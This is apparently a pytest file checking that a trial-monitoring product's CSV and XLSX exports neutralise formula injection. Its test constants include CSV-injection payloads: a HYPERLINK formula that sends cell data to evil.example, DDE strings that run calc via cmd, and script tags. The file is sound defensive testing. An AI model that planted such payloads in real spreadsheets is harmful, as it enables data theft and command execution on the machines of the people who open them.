"""Every CSV and XLSX the product writes keeps hostile text as inert text (issue 11, item 8).

The hostile values are the OWASP "CSV Injection" triggers (a cell starting with ``=``, ``+``,
``-``, ``@``, tab or carriage return), a DDE payload, and HTML. Each writer's output is read
back: the CSV with the csv module (a formula-like cell starts with ``'``, as OWASP
recommends), the XLSX with openpyxl (no cell is a formula, ``data_type == "f"``; the text is
unchanged and its style has ``quotePrefix``). Numbers stay numbers: ``-0.5`` is not escaped.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard import components
from monitoring import safe_cells
from monitoring.data_dictionary import TrialData
from monitoring.demo import Scenario, generate, write_tables
from monitoring.protocol import load_protocol
from monitoring.reports.document import Column, ColumnKind, MetadataRow, Section, Table
from monitoring.reports.xlsx import write_xlsx
from monitoring.safe_cells import is_formula_like
from tests.conftest import DEFAULT_PROTOCOL
from tests.report_sample import sample_document

ROOT = Path(__file__).resolve().parent.parent
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A2,"x")',
    "+1+cmd|' /C calc'!A0",  # DDE payload (OWASP)
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
)
INERT = ('<a href="https://evil.example">x</a>', "<script>alert(1)</script>", "Hôpital & Co")
HOSTILE = FORMULAS + INERT


def _frame() -> pd.DataFrame:
    """One hostile text per row, with a numeric column holding negative numbers."""
    return pd.DataFrame(
        {
            "site": list(HOSTILE),
            "delta": [-0.5 - i for i in range(len(HOSTILE))],
            "count": list(range(len(HOSTILE))),
        }
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        *((v, True) for v in FORMULAS),
        *((v, False) for v in INERT),
        ("-0.5", False),  # a plain number, read as that number, never as a formula
        ("+3", False),
        ("1e-3", False),
        ("-1.5e+2", False),
        ("-1-1", True),
        ("-", True),
        ("P-003", False),  # the trigger must be the first character
        (-0.5, False),  # not text
        (None, False),
    ],
)
def test_formula_like_text(value: object, expected: bool) -> None:
    assert is_formula_like(value) is expected


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def _check_csv(data: bytes) -> None:
    rows = _csv_rows(data)
    assert rows[0] == ["site", "delta", "count"]
    sites = [r[0] for r in rows[1:]]
    assert sites == [f"'{v}" for v in FORMULAS] + list(INERT)
    assert [float(r[1]) for r in rows[1:]] == list(_frame()["delta"])  # numbers, unquoted


def _check_xlsx(data: bytes | Path) -> None:
    book = openpyxl.load_workbook(data if isinstance(data, Path) else io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert bool(cell.quotePrefix) is is_formula_like(cell.value), cell.coordinate
    for value in HOSTILE:  # XML keeps a carriage return only as &#13;: read back as written
        assert value in texts, value
    with zipfile.ZipFile(data if isinstance(data, Path) else io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in package.read(name).decode(), name


def test_csv_prefixes_formula_text_and_leaves_numbers() -> None:
    _check_csv(safe_cells.csv_bytes(_frame()))


def test_csv_neutralises_column_names() -> None:
    rows = _csv_rows(safe_cells.csv_bytes(pd.DataFrame({"=cmd": ["ok"]})))
    assert rows == [["'=cmd"], ["ok"]]


def test_xlsx_keeps_formula_text_as_quoted_strings() -> None:
    data = safe_cells.xlsx_bytes(_frame(), "Audit log")
    _check_xlsx(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert [sheet.cell(r, 2).value for r in range(2, 2 + len(HOSTILE))] == list(_frame()["delta"])


class _FakeStreamlit:
    """Records what the dashboard's table component hands to download buttons."""

    def __init__(self) -> None:
        self.downloads: dict[str, Callable[[], bytes]] = {}

    def dataframe(self, *_: Any, **__: Any) -> None:
        return None

    def columns(self, spec: list[int]) -> list[_FakeStreamlit]:
        return [self] * len(spec)

    def container(self, **_: Any) -> _FakeStreamlit:
        return self

    def download_button(self, label: str, data: Callable[[], bytes], **_: Any) -> None:
        self.downloads[label] = data


def test_dashboard_table_downloads_are_neutralised(monkeypatch: pytest.MonkeyPatch) -> None:
    """The CSV and XLSX buttons under every dashboard table (the audit log included)."""
    fake = _FakeStreamlit()
    monkeypatch.setattr(components, "st", fake)
    components.table(_frame(), "Audit log")
    assert set(fake.downloads) == {"CSV", "XLSX"}
    _check_csv(fake.downloads["CSV"]())
    _check_xlsx(fake.downloads["XLSX"]())


def _hostile_trial() -> TrialData:
    data = generate(load_protocol(DEFAULT_PROTOCOL), "on_track", 0)
    patients = data.patients.copy()
    patients["site"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(patients))]
    return TrialData(patients, data.responses, data.adverse_events)


def test_demo_workbook_keeps_text_and_has_no_formula(tmp_path: Path) -> None:
    (path,) = write_tables(_hostile_trial(), tmp_path, "xlsx")
    _check_xlsx(path)


def test_demo_extracts_hold_no_formula_like_text() -> None:
    """The demo CSV extracts are written as they are (they are read back by the importer):
    this holds because the generated data never has formula-like text."""
    protocol = load_protocol(DEFAULT_PROTOCOL)
    for scenario in (s for s in Scenario if s is not Scenario.LARGE):  # LARGE: same catalogue
        data = generate(protocol, scenario, 0)
        for frame in (data.patients, data.responses, data.adverse_events):
            for column in frame.columns:
                assert not frame[column].map(is_formula_like).any(), column


def test_report_workbook_keeps_text_and_has_no_formula(tmp_path: Path) -> None:
    """Hostile text in the title block, a table header, row 2 (written by openpyxl) and
    rows 3 and beyond (written as XML text and spliced in)."""
    columns = (Column(HOSTILE[0], ColumnKind.TEXT), Column("Change", ColumnKind.NUMBER, 2))
    rows = tuple((v, -0.5 - i) for i, v in enumerate(HOSTILE))
    table = Table(HOSTILE[3], columns, rows, note=HOSTILE[1], sheet_name="Sites")  # type: ignore[arg-type]
    doc = sample_document(rows=5)
    doc = replace(
        doc,
        title=HOSTILE[0],
        metadata=(*doc.metadata, *(MetadataRow(f"Site {i}", v) for i, v in enumerate(HOSTILE))),
        sections=(*doc.sections, Section("Sites", (table,))),
    )
    path = write_xlsx(doc, tmp_path / "summary.xlsx")
    _check_xlsx(path)
    sheet = openpyxl.load_workbook(path)["Sites"]
    assert [sheet.cell(r, 1).value for r in range(2, 2 + len(HOSTILE))] == list(HOSTILE)
    assert [sheet.cell(r, 2).value for r in range(2, 2 + len(HOSTILE))] == [r[1] for r in rows]


WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer|csv\.DictWriter|Workbook\(")
ALLOWED = {"monitoring/safe_cells.py", "monitoring/reports/xlsx.py", "monitoring/demo/writer.py"}


def test_every_spreadsheet_writer_goes_through_safe_cells() -> None:
    """The product writes CSV/XLSX only in modules that apply :mod:`monitoring.safe_cells`
    (each checked above); a new writer elsewhere fails here until it does too."""
    sources = [*ROOT.glob("monitoring/**/*.py"), *ROOT.glob("dashboard/*.py")]
    sources += [*ROOT.glob("pages/*.py"), ROOT / "app.py"]
    writing = {str(p.relative_to(ROOT)) for p in sources if WRITERS.search(p.read_text())}
    assert writing <= ALLOWED, writing - ALLOWED
    for name in ALLOWED - {"monitoring/safe_cells.py"}:
        assert "safe_cells" in (ROOT / name).read_text(), name


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=6))
def test_no_csv_cell_starts_like_a_formula_and_text_survives(texts: list[str]) -> None:
    """Any text, through csv_bytes and back with the csv module: the same cells, each
    either unchanged or behind one apostrophe, and none opening with a trigger unless it is
    a plain number."""
    rows = _csv_rows(safe_cells.csv_bytes(pd.DataFrame({"text": texts})))
    assert len(rows) == len(texts) + 1
    for (cell,), text in zip(rows[1:], texts, strict=True):
        assert cell == (f"'{text}" if is_formula_like(text) else text)
        assert not is_formula_like(cell)
